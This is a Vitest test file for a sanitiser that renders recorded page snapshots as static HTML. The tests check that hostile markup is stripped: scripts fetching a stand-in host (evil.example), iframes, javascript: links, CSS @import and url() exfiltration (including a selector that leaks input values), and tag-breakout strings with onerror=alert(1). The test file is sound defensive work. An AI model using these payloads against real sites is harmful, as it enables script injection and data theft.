import { expect, test } from "vitest";
import { element, recordingOf } from "#test/factories/bodies.ts";
import { type PageMoment, pageAt } from "./page-at.ts";
import { staticHtml } from "./static-html.ts";

type Child = ReturnType<typeof element>;
const page = (...children: Child[]): PageMoment => {
  const { events } = recordingOf("A page");
  const add = (node: Child) => ({ parentId: 5, nextId: null, node });
  const data = { source: 0, removes: [], texts: [], attributes: [], adds: children.map(add) };
  return pageAt([...events, { type: 3, timestamp: 2_000, data }] as never, 9_000)!;
};
const html = (...children: Child[]): string =>
  staticHtml(page(...children), "n0nce").split("<p>A page</p>")[1]!;
const text = (id: number, textContent: string) => ({ type: 3, id, textContent });
const at = "https://evil.example/x";

test.each<[string, Child]>([
  ["a script", element(20, "script", {}, [text(21, "fetch('https://evil.example')")])],
  ["a script in SVG", element(20, "svg", {}, [element(21, "script", { href: at }, [])])],
  ["a frame", element(20, "iframe", { src: at, srcdoc: "<script>evil.example</script>" }, [])],
  ["an object", element(20, "object", { data: at }, [])],
  ["a refresh", element(20, "meta", { "http-equiv": "refresh", content: `0;url=${at}` }, [])],
  ["a base", element(20, "base", { href: at }, [])],
  ["a handler", element(20, "img", { src: "x", onerror: "evil.example", ONLOAD: "evil.example" }, [])],
  ["a link", element(20, "a", { href: "javascript:evil.example", ping: at, target: "_top" }, [])],
  [
    "a form",
    element(20, "form", { action: at }, [element(21, "button", { formaction: at, type: "submit" }, [])]),
  ],
  ["a picture from elsewhere", element(20, "img", { src: at, srcset: `${at} 2x` }, [])],
  ["a picture that is a document", element(20, "img", { src: "data:image/svg+xml,evil.example" }, [])],
  ["a linked style sheet", element(20, "link", { rel: "stylesheet", href: at }, [])],
  ["an import", element(20, "style", {}, [text(21, `@import "${at}"; @import url(${at});`)])],
  [
    "a style that reads a field",
    element(20, "style", {}, [text(21, `input[value^=a]{background:url("${at}")}`)]),
  ],
  [
    "an address in escapes",
    element(20, "style", {}, [text(21, `p{background:\\75rl(${at})} q{background:u\\rl('${at}')}`)]),
  ],
  [
    "an address behind a comment",
    element(20, "style", {}, [text(21, `p{background:u/**/rl(${at});background:url/**/(${at})}`)]),
  ],
  ["a font", element(20, "style", {}, [text(21, `@font-face{font-family:x;src:url(${at})}`)])],
  ["an image set", element(20, "p", { style: `background:image-set("${at}" 1x)` }, [])],
  ["an address in a style attribute", element(20, "p", { style: `background:url(${at})` }, [])],
  ["an address in a drawing", element(20, "svg", {}, [element(21, "rect", { fill: `url(${at}#a)` }, [])])],
  ["a drawing used from elsewhere", element(20, "svg", {}, [element(21, "use", { href: at }, [])])],
  [
    "a page within a drawing",
    element(20, "svg", {}, [element(21, "foreignObject", {}, [element(22, "iframe", { src: at }, [])])]),
  ],
  [
    "a movement that sets a link",
    element(20, "svg", {}, [element(21, "animate", { attributeName: "href", values: at }, [])]),
  ],
])("%s leaves nothing behind", (_, hostile) => {
  const left = html(hostile);
  expect(left).not.toMatch(
    /evil|javascript|script|iframe|refresh|\son\w+=|href|action|srcset|@import|@font-face/i,
  );
});

test("what is left of imports in odd forms loads nothing: no address stands in a place that is loaded", () => {
  const odd = element(20, "style", {}, [
    text(21, `a{background:image-set('${at}' 1x);content:src("${at}")}`),
  ]);
  expect(html(odd)).not.toMatch(/(?:image-set|src|url)\s*\(/);
});

test("nothing closes its element: texts, attributes and styles cannot begin another", () => {
  const out = html(
    element(20, "p", { title: '"><img src=x onerror=alert(1)>', style: "}</style><img src=x>" }, [
      text(21, "</p><script>"),
    ]),
    element(22, "style", {}, [text(23, "p{} </style><script>alert(1)</script>")]),
    element(24, "x><script>alert(1)</script", {}, [text(25, "kept")]),
  );
  expect(out).not.toMatch(/<script|<img/);
  expect(out).toContain("&lt;script&gt;");
  expect(out).toContain("<div>kept</div>");
});

test("the document's own policy takes styles by our nonce alone, and a captured nonce is not one", () => {
  const out = staticHtml(
    page(element(20, "style", { nonce: "theirs" }, [text(21, "p{color:red}")])),
    "n0nce",
  );
  expect(out).toMatch(
    /^<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;nonce-n0nce&#39;; img-src data:;/,
  );
  expect(out).toContain('<style nonce="n0nce">p{color:red}</style>');
  expect(out).not.toContain("theirs");
});

test("what a page shows stays: texts, structure, fields, styles and pictures within", () => {
  const out = html(
    element(20, "table", { class: "t" }, [element(21, "td", { colspan: "2" }, [text(22, "Total")])]),
    element(23, "input", { type: "text", value: "****" }, []),
    element(24, "p", { style: "color: red" }, [text(25, "late")]),
    element(26, "img", { src: "data:image/png;base64,iVBORw0KGgo=", alt: "logo" }, []),
    element(27, "my-card", {}, [text(28, "custom")]),
  );
  expect(out).toContain('<table class="t"><td colspan="2">Total</td></table>');
  expect(out).toContain('<input type="text" value="****" disabled>');
  expect(out).toContain('<p data-s="0">late</p>');
  expect(out).toContain('[data-s="0"]{color: red');
  expect(out).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">');
  expect(out).toContain("<div>custom</div>");
});

test("a moment is the page as it was then, with the mouse where it was", () => {
  const { events } = recordingOf("Before");
  const later = (timestamp: number, data: object) => ({ type: 3, timestamp, data }) as never;
  const none = { source: 0, adds: [], removes: [], attributes: [], texts: [] };
  const all = [
    ...events,
    later(2_000, { ...none, texts: [{ id: 7, value: "After" }] }),
    later(3_000, { source: 1, positions: [{ x: 10, y: 20, id: 5, timeOffset: 0 }] }),
    later(4_000, { ...none, removes: [{ parentId: 5, id: 6 }] }),
    later(5_000, { ...none, attributes: [{ id: 5, attributes: { class: "dark" } }] }),
  ] as never;
  const shown = (time: number) => staticHtml(pageAt(all, time)!, "");
  expect(shown(0)).toContain("<p>Before</p>");
  expect(shown(2_500)).toContain("<p>After</p>");
  expect(pageAt(all, 3_500)).toMatchObject({ width: 800, height: 600, pointer: { x: 10, y: 20 } });
  expect(shown(4_500)).not.toContain("<p>");
  expect(shown(5_000)).toContain('<body class="dark">');
});
